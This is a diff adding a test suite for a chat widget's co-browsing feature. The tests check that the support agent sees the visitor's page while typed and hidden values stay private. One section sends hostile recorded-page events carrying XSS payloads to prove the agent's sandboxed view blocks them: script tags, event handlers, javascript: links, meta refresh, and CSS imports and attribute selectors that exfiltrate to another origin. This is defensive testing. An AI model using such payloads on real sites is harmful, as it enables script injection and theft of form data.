@@ -1,0 +1,392 @@
+"""An agent sees the page that a visitor is on: from the tap to the last byte, and nothing of what is typed in it."""
+
+import base64
+import json
+import re
+import zlib
+from urllib.parse import quote, unquote_to_bytes
+
+import pytest
+from django.utils import timezone
+from playwright.sync_api import expect
+from websockets.sync.client import connect
+
+from console.mirror import parts
+from console.widget import tokens
+from conversations.models import Inbox, Message, Mirror, Visitor, Website
+
+from .conftest import DESKTOP, PHONE, REMEMBERED
+from .people import VisitorPage
+from .phones import until
+
+SECRET = "s3cr3t"
+DOTS = re.compile("^•+$")
+
+CHECKOUT = """
+<style>h1 { color: rgb(1, 2, 3); background: url('/spot.png?s3cr3t') }</style>
+<h1>Delivery</h1><p id="seen">Two towels</p>
+<form>
+  <label>Name <input id="name" name="name"></label>
+  <label>City <input id="city" name="city"></label>
+  <label>Card <input id="card" name="cardnumber" autocomplete="cc-number"></label>
+</form>
+<p style="height: 2000px">A long page</p>
+"""
+
+HOSTILE = """
+<title>s3cr3t title</title>
+<meta name="csrf-token" content="s3cr3t">
+<!-- s3cr3t comment -->
+<h1>What one may see</h1>
+<form action="/pay?s3cr3t">
+  <input id="password" type="password" name="city" value="s3cr3t">
+  <input id="card" name="street" autocomplete="cc-number" value="s3cr3t">
+  <input id="hidden" type="hidden" name="csrf" value="s3cr3t">
+  <input id="text" name="text" placeholder="s3cr3t" title="s3cr3t" aria-label="s3cr3t" data-token="s3cr3t">
+  <input type="submit" value="s3cr3t"><input type="checkbox" value="s3cr3t" checked>
+  <textarea id="area">s3cr3t</textarea>
+  <select id="choice"><option value="s3cr3t-a">s3cr3t a</option><option value="s3cr3t-b">s3cr3t b</option></select>
+  <input id="file" type="file"><input list="hints"><datalist id="hints"><option value="s3cr3t"></datalist>
+</form>
+<div id="editor" contenteditable>s3cr3t</div>
+<a href="/x?s3cr3t#s3cr3t">A link</a><img src="/a.png?s3cr3t" alt="s3cr3t"><img id="preview">
+<div class="invoices">s3cr3t</div>
+<script>const token = "s3cr3t";</script>
+<x-shadow></x-shadow><iframe id="inner"></iframe>
+<script>
+  const root = document.querySelector("x-shadow").attachShadow({ mode: "open" });
+  root.innerHTML = "<p>In the shadow</p><input id='inside' value='s3cr3t'><div contenteditable>s3cr3t</div>";
+  document.querySelector("#inner").srcdoc = "<p>In the frame</p><input value='s3cr3t'><textarea>s3cr3t</textarea>";
+</script>
+"""
+LATER = """() => {
+  const at = (id) => document.getElementById(id);
+  at("password").type = "text";
+  at("hidden").value = "s3cr3t later";
+  at("hidden").setAttribute("value", "s3cr3t later");
+  at("editor").firstChild.data = "s3cr3t later";
+  at("editor").contentEditable = "false";
+  at("editor").append(" s3cr3t once more");
+  at("text").value = "s3cr3t by a script";
+  at("preview").src = "data:image/png;base64," + btoa("s3cr3t".repeat(2000));
+  at("choice").selectedIndex = 1;
+  document.querySelector(".invoices").textContent = "s3cr3t later";
+  document.querySelector("x-shadow").shadowRoot.querySelector("input").value = "s3cr3t later";
+  document.body.append(Object.assign(document.createElement("input"), { value: "s3cr3t", name: "new" }));
+  document.querySelector("h1").textContent = "What one may see now";
+}"""
+
+
+# A form hides what its element can do behind fields of that name, a document behind its pictures. (Playwright does not
+# bear that either: it is put there once the chat is open.)
+HIDING = [
+    *("classList", "matches", "closest", "nodeType", "getRootNode", "attributes", "parentElement", "ownerDocument"),
+    "isContentEditable",
+]
+NAMED = """([fields, pictures]) => {
+  customElements.define("x-part", class extends HTMLElement { matches() { return false; } closest() { return null; } });
+  const told = "<p class='told'>s3cr3t</p>";
+  const forms = (kind) => fields.map((name) => `<form ${kind}><input name="${name}">${told}</form>`).join("");
+  document.querySelector("main").innerHTML =
+    forms("class='invoices'") + forms("contenteditable") + `<x-part class="invoices">${told}</x-part>` +
+    pictures.map((name) => `<img name="${name}">`).join("");
+}"""
+RENAMED = """() => {
+  for (const told of document.querySelectorAll(".told")) {
+    told.firstChild.data = "s3cr3t now";
+    told.append(Object.assign(document.createElement("b"), { textContent: "s3cr3t and more" }));
+  }
+  document.querySelector("h1").firstChild.data = "What one may see now";
+}"""
+
+
+@pytest.fixture
+def talk(hire, answered, shop, other_server):
+    Website.objects.filter(pk=shop.pk).update(allowed_origins=other_server.origin)
+    ana = hire("Ana").user
+    return ana, answered(ana, "Where do I write the floor?", "I will have a look")
+
+
+@pytest.fixture
+def browse(context, other_server, server, talk):
+    """Opens a page of a website of its own, for the visitor of the conversation; `page.sent`: what its mirror sent."""
+
+    def make(body, *, policy="", device=PHONE):
+        _ana, conversation = talk
+        browser = context(device)
+        token = tokens.token_of(conversation.visitor.key, Inbox.objects.get())
+        browser.add_init_script(REMEMBERED % json.dumps(token))
+        page = browser.new_page()
+        page.sent, page.asked = [], []
+        page.on("websocket", lambda socket: socket.on("framesent", lambda frame: page.sent.append((socket.url, frame))))
+        page.on("request", lambda request: page.asked.append(request.url))
+        tag = f'<script async src="{server.url}/widget.js" data-inbox="maison-lorme"></script>'
+        meta = '<meta name="viewport" content="width=device-width">'
+        page.goto(other_server.publish(f"<!doctype html><html>{meta}{tag}<body>{body}", policy=policy))
+        visitor = VisitorPage(page)
+        expect(page.locator("pupitre-chat button")).to_be_visible()
+        visitor.open_chat()
+        until(page, lambda: Visitor.objects.get(pk=conversation.visitor_id).online)
+        return visitor
+
+    return make
+
+
+def look(agent, name=None):
+    """The agent taps the tool in the head of the conversation."""
+    agent.page.locator("#chats .row").first.click()
+    expect(agent.field()).to_be_visible()
+    agent.command("mirror").first.click()
+    agent.page.wait_for_url("**/mirror/")
+
+
+def agree(visitor):
+    visitor.chat.get_by_role("button", name="Let them see it").click()
+
+
+def picture(agent):
+    """What the agent sees of the page."""
+    return agent.page.frame_locator("#page iframe")
+
+
+def unpacked(frames):
+    """All that went over the socket: as it is, and as it was before it was packed."""
+    text = b""
+    for frame in frames:
+        if isinstance(frame, str):
+            yield frame.encode()
+            continue
+        yield frame
+        text += frame[1:]
+        if frame[0] & 2:  # the last part of a text
+            yield zlib.decompress(text, -zlib.MAX_WBITS) if frame[0] & 4 else text
+            text = b""
+
+
+def leaks(data):
+    """The ways in which a secret stands in these bytes."""
+    ways = {
+        "plain": SECRET.encode(),
+        "escaped": SECRET.encode("unicode-escape"),
+        "quoted": quote(SECRET, safe="").encode(),
+        "backwards": SECRET[::-1].encode(),
+        **{f"base64 {n}": base64.b64encode(b"x" * n + SECRET.encode())[4 if n else 0 : 8] for n in range(3)},
+    }
+    del ways["base64 1"], ways["base64 2"]  # three letters of it alone are not it
+    found = [way for way, written in ways.items() if written.lower() in data.lower()]
+    return found + (["percent"] if SECRET.encode() in unquote_to_bytes(data) else [])
+
+
+def test_an_agent_follows_a_visitor_through_a_checkout_in_which_nothing_typed_is_read(talk, sign_in, browse):
+    ana, conversation = talk
+    visitor, agent = browse(CHECKOUT), sign_in(ana)
+
+    look(agent)
+    expect(agent.page.get_by_text("is being asked")).to_be_visible()
+    agree(visitor)
+    expect(picture(agent).locator("h1")).to_have_text("Delivery")
+    expect(picture(agent).locator("h1")).to_have_css("color", "rgb(1, 2, 3)")
+    expect(visitor.page.get_by_text("Ana can see this page").first).to_be_visible()
+
+    visitor.chat.locator("#close").click()
+    visitor.page.locator("#name").type("Zoe Durand")
+    visitor.page.locator("#card").fill("4242424242424242")
+    expect(picture(agent).locator("#name")).to_have_value("••• ••••••")
+    expect(picture(agent).locator("#card")).to_have_value("••••••••")
+    visitor.page.evaluate("document.getElementById('seen').textContent = 'Three towels'")
+    expect(picture(agent).locator("#seen")).to_have_text("Three towels")
+
+    visitor.page.reload()
+    expect(visitor.page.get_by_text("Ana can see this page").first).to_be_visible()
+    expect(picture(agent).locator("#seen")).to_have_text("Two towels")
+
+    visitor.page.locator("pupitre-chat").get_by_role("button", name="Stop").click()
+    expect(agent.page.get_by_text("has stopped it")).to_be_visible()
+    expect(agent.page.locator("#page iframe")).to_have_count(0)
+    agent.page.get_by_role("link", name="Back to the conversation", exact=True).click()
+    expect(agent.page.get_by_text("saw the visitor’s page")).to_be_visible()
+    assert Mirror.objects.get().end == Mirror.End.STOPPED
+    assert Message.objects.filter(conversation=conversation, event="mirrored").count() == 1
+
+
+def test_the_visitor_refuses(talk, sign_in, browse):
+    ana, _conversation = talk
+    visitor, agent = browse(CHECKOUT), sign_in(ana)
+
+    look(agent)
+    visitor.chat.locator("#pw-mirror").get_by_role("button", name="No", exact=True).click()
+
+    expect(agent.page.get_by_text("does not want it")).to_be_visible()
+    assert not any("/mirror.js" in url for url in visitor.page.asked)
+
+
+def test_nothing_that_is_hidden_leaves_the_browser(talk, sign_in, browse, shop):
+    ana, _conversation = talk
+    Website.objects.filter(pk=shop.pk).update(
+        asks_before_mirroring=False, readable_fields="city\nstreet\ncsrf", hidden_parts=".invoices"
+    )
+    visitor, agent = browse(HOSTILE), sign_in(ana)
+
+    look(agent)
+    expect(picture(agent).get_by_text("What one may see")).to_be_visible()
+    expect(picture(agent).get_by_text("In the shadow")).to_be_visible()
+    visitor.page.locator("#text").type(SECRET)
+    visitor.page.locator("#area").fill(f"{SECRET} typed")
+    visitor.page.locator("#card").type(f" {SECRET}")
+    visitor.page.locator("#file").set_input_files({"name": f"{SECRET}.pdf", "mimeType": "a/b", "buffer": b"s3cr3t"})
+    visitor.page.evaluate(LATER)
+    visitor.page.locator("#password").fill(f"{SECRET} in clear")
+    expect(picture(agent).get_by_text("What one may see now")).to_be_visible()
+    expect(picture(agent).locator("#password")).to_have_value("••••••••")
+
+    told = list(unpacked(frame for url, frame in visitor.page.sent if url.endswith("/mirror/")))
+    assert any(b"What one may see now" in data for data in told)
+    assert [(leaks(data), data) for data in told if leaks(data)] == []
+    assert not [url for url in visitor.page.asked if "mirror" in url and SECRET in url]
+
+
+def test_no_name_of_a_field_brings_a_part_through_that_is_hidden(talk, sign_in, browse, shop):
+    ana, _conversation = talk
+    Website.objects.filter(pk=shop.pk).update(asks_before_mirroring=False, hidden_parts=".invoices")
+    visitor, agent = browse("<h1>What one may see</h1><main></main>"), sign_in(ana)
+    visitor.page.evaluate(NAMED, [HIDING, ["host", "defaultView", "designMode"]])
+
+    look(agent)
+    expect(picture(agent).locator("h1")).to_have_text("What one may see")
+    visitor.page.evaluate(RENAMED)
+    expect(picture(agent).locator("h1")).to_have_text("What one may see now")
+
+    told = list(unpacked(frame for url, frame in visitor.page.sent if url.endswith("/mirror/")))
+    assert [data for data in told if leaks(data)] == []
+
+
+def test_a_site_that_allows_sockets_to_nobody_is_seen_all_the_same(talk, sign_in, browse, shop, server):
+    ana, _conversation = talk
+    Website.objects.filter(pk=shop.pk).update(asks_before_mirroring=False)
+    policy = f"connect-src 'self'; script-src 'unsafe-inline' {server.url}; frame-src {server.url}"
+    browse(CHECKOUT, policy=policy)
+    agent = sign_in(ana, DESKTOP)
+
+    look(agent)
+
+    expect(picture(agent).locator("h1")).to_have_text("Delivery")
+
+
+# ---- a page that lies
+
+EVIL = "parent.ran = top.ran = true"
+
+
+def element(tag, attributes=None, *within, of=None):
+    """As rrweb tells of it; `of` counts the ids."""
+    number = next(of)
+    children = [one if isinstance(one, dict) else text(one, of) for one in within]
+    return {"type": 2, "tagName": tag, "attributes": attributes or {}, "childNodes": children, "id": number}
+
+
+def text(words, of):
+    return {"type": 3, "textContent": words, "id": next(of)}
+
+
+def hostile_nodes(evil, of):
+    def make(tag, attributes=None, *within):
+        return element(tag, attributes, *within, of=of)
+
+    drawing = make("svg", {"onload": EVIL}, make("script", {}, EVIL), make("a", {"xlink:href": f"javascript:{EVIL}"}))
+    return [
+        make("script", {}, EVIL),
+        make("script", {"src": f"{evil}/x.js"}),
+        make("img", {"src": "x", "onerror": EVIL, "onload": EVIL}),
+        make("a", {"id": "link", "href": f"javascript:{EVIL}", "onclick": EVIL, "target": "_top"}, "A link"),
+        make("form", {"action": evil, "target": "_top"}, make("button", {"id": "send", "formaction": evil}, "Send")),
+        make("meta", {"http-equiv": "refresh", "content": f"0;url={evil}"}),
+        make("base", {"href": evil}),
+        make("iframe", {"src": evil, "srcdoc": f"<script>{EVIL}</script>", "rr_src": evil}),
+        make("object", {"data": evil}),
+        make("embed", {"src": evil}),
+        make("link", {"rel": "stylesheet", "href": f"{evil}/x.css"}),
+        make("style", {"_cssText": f"@import url({evil}/y.css); input[value^=a] {{ background: url({evil}/a) }}"}),
+        make("style", {}, f"@font-face {{ font-family: x; src: \\75rl({evil}/f) }} * {{ font-family: x }}"),
+        make("div", {"style": f"background: url({evil}/b)", "background": f"{evil}/c"}, "Some words"),
+        make("video", {"src": f"{evil}/v", "poster": f"{evil}/p", "autoplay": "", "controls": ""}),
+        {**drawing, "isSVG": True},
+    ]
+
+
+def test_a_page_that_lies_runs_nothing_on_the_agents_screen_and_fetches_nothing_from_elsewhere(
+    talk, sign_in, browse, server, other_server, shop
+):
+    ana, conversation = talk
+    Website.objects.filter(pk=shop.pk).update(asks_before_mirroring=False)
+    browse("<h1>A page</h1>")
+    agent, asked = sign_in(ana), []
+    agent.page.on("requestfinished", lambda request: asked.append(request.url))  # what the policy refuses does not
+    look(agent)
+    expect(picture(agent).locator("h1")).to_have_text("A page")
+    of, at = iter(range(2, 1000)), {"timestamp": int(timezone.now().timestamp() * 1000)}
+    body = element(
+        "body", {"onload": EVIL}, element("h1", {}, "Here I am", of=of), *hostile_nodes(other_server.origin, of), of=of
+    )
+    page = {"type": 0, "childNodes": [element("html", {}, element("head", of=of), body, of=of)], "id": 1}
+    later = [{"parentId": body["id"], "nextId": None, "node": node} for node in hostile_nodes(other_server.origin, of)]
+    changes = {"source": 0, "texts": [], "attributes": [], "removes": [], "adds": later}
+    events = [
+        {"type": 4, "data": {"href": f"javascript:{EVIL}", "width": 390, "height": 844}, **at},
+        {"type": 2, "data": {"node": page, "initialOffset": {"top": 0, "left": 0}}, **at},
+        {"type": 3, "data": changes, **at},
+        {"type": 3, "data": {"source": 9, "id": body["id"], "type": 0, "property": "drawImage", "args": [EVIL]}, **at},
+        {"type": 6, "data": {"plugin": "rrweb/console@1", "payload": EVIL}, **at},
+    ]
+
+    token = tokens.token_of(conversation.visitor.key, Inbox.objects.get())
+    address = f"{server.url.replace('http', 'ws')}/ws/widget/maison-lorme/mirror/"
+    with connect(address, origin=server.url) as line:
+        line.send(json.dumps({"type": "hello", "token": token, "language": "en"}))
+        while json.loads(line.recv())["type"] != "welcome":
+            pass
+        line.send(bytes([parts.BEGINS | parts.LAST]) + json.dumps(events).encode())
+        expect(picture(agent).locator("h1")).to_have_text("Here I am")
+        expect(picture(agent).get_by_text("Some words").last).to_be_attached()
+
+    frame = agent.page.locator("#page iframe")
+    expect(frame).to_have_attribute("sandbox", "allow-same-origin")
+    assert agent.page.evaluate("window.ran") is None
+    assert agent.page.url.startswith(server.url)
+    assert [url for url in asked if not url.startswith((server.url, "data:"))] == []
+
+
+def test_twenty_times_begun_and_stopped_leaves_nothing_on_the_visitors_page(talk, browse):
+    visitor = browse(CHECKOUT + "<p>word</p>" * 500)
+    origin = visitor.page.locator("script[src*='widget.js']").get_attribute("src").rpartition("/")[0]
+    visitor.page.add_script_tag(url=f"{origin}/mirror.js")
+    devtools = visitor.page.context.new_cdp_session(visitor.page)
+
+    def held():
+        devtools.send("HeapProfiler.collectGarbage")
+        return visitor.page.evaluate("performance.memory.usedJSHeapSize")
+
+    visitor.page.evaluate(CYCLES, 2)
+    before = held()
+    told = visitor.page.evaluate(CYCLES, 20)
+
+    assert told == 20
+    assert held() - before < 2 * 1024 * 1024
+    assert visitor.page.evaluate(
+        "Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').set.toString()"
+    ) == ("function set value() { [native code] }")
+
+
+CYCLES = """async (times) => {
+  const start = window[Symbol.for("pupitre.mirror")];
+  let told = 0;
+  for (let n = 0; n < times; n++) {
+    const { port1, port2 } = new MessageChannel();
+    const first = new Promise((done) => (port2.onmessage = ({ data }) => data.type === "frame" && done(data)));
+    start(port1, { allowed: [], blocked: [], seen: "Seen", stop: "Stop" });
+    told += (await first).isFirst ? 1 : 0;
+    port2.postMessage({ type: "stop" });
+    await new Promise((done) => setTimeout(done, 50));
+    port2.close();
+  }
+  return told;
+}"""
